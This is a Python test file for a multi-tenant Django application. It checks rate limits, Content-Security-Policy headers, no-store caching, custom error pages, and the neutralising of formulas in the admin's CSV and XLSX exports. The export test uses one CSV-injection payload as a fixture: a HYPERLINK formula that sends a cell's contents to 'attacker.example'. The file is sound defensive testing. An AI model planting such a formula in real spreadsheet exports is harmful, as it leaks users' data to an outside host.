"""Throttles (per user, per address, anonymous), the CSP on every page, no-store on tenant answers,
formula escaping in the admin's exports, and the project's own error pages."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.core.cache import cache
from django.test import Client, RequestFactory, override_settings
from django.views.defaults import page_not_found, server_error
from django_tenants.utils import schema_context

from fleet.models import Location
from tests.conftest import ChainFixture


@pytest.fixture
def clean_throttles() -> object:
    cache.clear()
    yield
    cache.clear()


@override_settings(CVD_THROTTLE_RATES={"user": "3/minute"})
def test_each_user_has_its_own_allowance(chain_a: ChainFixture, clean_throttles: object) -> None:
    viewer = chain_a.client("viewer")
    codes = [viewer.get("/api/me/").status_code for _ in range(5)]
    assert codes == [200, 200, 200, 429, 429]
    assert "Retry-After" in viewer.get("/api/me/").headers
    assert chain_a.client("manager").get("/api/me/").status_code == 200, "another user is not slowed down"


@override_settings(CVD_THROTTLE_RATES={"address": "4/minute"})
def test_one_address_shares_one_allowance_across_users(chain_a: ChainFixture, clean_throttles: object) -> None:
    codes = [chain_a.client(role).get("/api/me/").status_code for role in ("viewer", "manager", "admin", "viewer", "admin")]
    assert codes == [200, 200, 200, 200, 429]
    other = Client(HTTP_HOST=chain_a.domain, REMOTE_ADDR="127.0.0.9", HTTP_AUTHORIZATION=f"Token {chain_a.token('admin')}")
    assert other.get("/api/me/").status_code == 200
    # X-Forwarded-For is not trusted (no proxy configured): it cannot buy a fresh allowance.
    spoof = chain_a.client("viewer")
    assert spoof.get("/api/me/", HTTP_X_FORWARDED_FOR="198.51.100.1").status_code == 429


@override_settings(CVD_THROTTLE_RATES={"anon": "2/minute", "user": "100/minute"})
def test_anonymous_and_bad_token_requests_are_throttled_per_address(chain_a: ChainFixture, clean_throttles: object) -> None:
    anonymous = chain_a.client()
    guesser = Client(HTTP_HOST=chain_a.domain, HTTP_AUTHORIZATION="Token " + "f" * 64)
    codes = [anonymous.get("/api/analytics/dashboard/").status_code, guesser.get("/api/me/").status_code,
             guesser.get("/api/me/").status_code, anonymous.get("/api/me/").status_code]
    assert codes == [401, 401, 429, 429]
    assert chain_a.client("viewer").get("/api/me/").status_code == 200, "signed-in users have their own allowance"


def test_the_test_settings_leave_the_suite_unthrottled(chain_a: ChainFixture) -> None:
    viewer = chain_a.client("viewer")
    assert {viewer.get("/api/me/").status_code for _ in range(30)} == {200}


@pytest.mark.parametrize("path", ["/admin/login/", "/admin/", "/api/me/", "/api/docs/", "/api/schema/", "/account/token/", "/nowhere/"])
def test_every_page_has_a_content_security_policy(chain_a: ChainFixture, path: str) -> None:
    response = chain_a.client("viewer").get(path)
    policy = response.headers["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    assert directives["default-src"] == "'self'"
    assert directives["script-src"] == "'self'", "no inline or third-party scripts anywhere"
    assert directives["object-src"] == "'none'"
    assert directives["frame-ancestors"] == "'self'"
    if path == "/api/docs/" or path.startswith("/admin/"):
        # Swagger UI's one inline style block, the admin's style attributes: styles only, on these pages only.
        assert directives["style-src"] == "'self' 'unsafe-inline'"
    else:
        assert directives["style-src"] == "'self'"


def test_the_browsable_api_may_style_inline_but_never_script(chain_a: ChainFixture) -> None:
    response = chain_a.client("viewer").get("/api/me/", HTTP_ACCEPT="text/html")
    assert response["Content-Type"].startswith("text/html")
    policy = response.headers["Content-Security-Policy"]
    assert "style-src 'self' 'unsafe-inline'" in policy and "script-src 'self';" in policy + ";"


def test_the_export_page_loads_the_script_that_replaces_its_inline_handler(chain_a: ChainFixture) -> None:
    page = _admin(chain_a).get("/admin/fleet/location/export/").content.decode()
    assert "/static/chains/csp_handlers.js" in page and 'onchange="onSelectToggleChange(event)"' in page


def test_swagger_ui_runs_from_our_own_files(chain_a: ChainFixture) -> None:
    page = chain_a.client().get("/api/docs/").content.decode()
    assert "<script>" not in page, "no inline script: the start-up script is a separate file"
    assert '/static/drf_spectacular_sidecar/swagger-ui-dist/swagger-ui-bundle.js' in page
    script = chain_a.client().get("/api/docs/?script=")
    assert script.status_code == 200 and script["Content-Type"].startswith("application/javascript")
    assert b"SwaggerUIBundle" in script.content


@pytest.mark.parametrize("path", ["/api/me/", "/api/analytics/dashboard/", "/api/me/token/"])
def test_tenant_answers_are_not_cached(chain_a: ChainFixture, path: str) -> None:
    response = chain_a.client("viewer").get(path)
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "private, no-store"


def test_errors_on_the_api_are_not_cached_either(chain_a: ChainFixture) -> None:
    assert chain_a.client().get("/api/me/").headers["Cache-Control"] == "private, no-store"


def _admin(chain: ChainFixture) -> Client:
    client = chain.client()
    assert client.post("/admin/login/", {"username": f"{chain.schema}-admin", "password": "pw", "next": "/admin/"}).status_code == 302
    return client


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_admin_exports_write_formulas_as_text(chain_a: ChainFixture, file_format: str) -> None:
    with schema_context(chain_a.schema):
        Location.objects.create(code="EVIL", name=FORMULA, city="=1+1")
    client = _admin(chain_a)
    page = client.get("/admin/fleet/location/export/")
    formats = {label.strip().lower(): value for value, label in page.context["form"].fields["format"].choices if value != ""}
    response = client.post("/admin/fleet/location/export/", {"format": formats[file_format], "export_items": [],
                                                               **{f"locationresource_{f}": "on" for f in ("code", "name", "city")}})
    assert response.status_code == 200, response.content[:300]
    if file_format == "csv":
        text = response.content.decode("utf-8-sig")
        assert "HYPERLINK" in text and "=HYPERLINK" not in text and "=1+1" not in text
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)]
        assert cells and all(cell.data_type != "f" and not str(cell.value).startswith("=") for cell in cells)


def test_404_and_500_are_the_products_own_pages(chain_a: ChainFixture) -> None:
    response = chain_a.client().get("/no/such/page/")
    assert response.status_code == 404
    body = response.content.decode()
    assert "Page not found" in body and "URLconf" not in body and "Traceback" not in body
    request = RequestFactory().get("/")
    assert b"Something went wrong" in server_error(request).content
    assert b"Page not found" in page_not_found(request, Exception("secret detail")).content
    assert b"secret detail" not in page_not_found(request, Exception("secret detail")).content
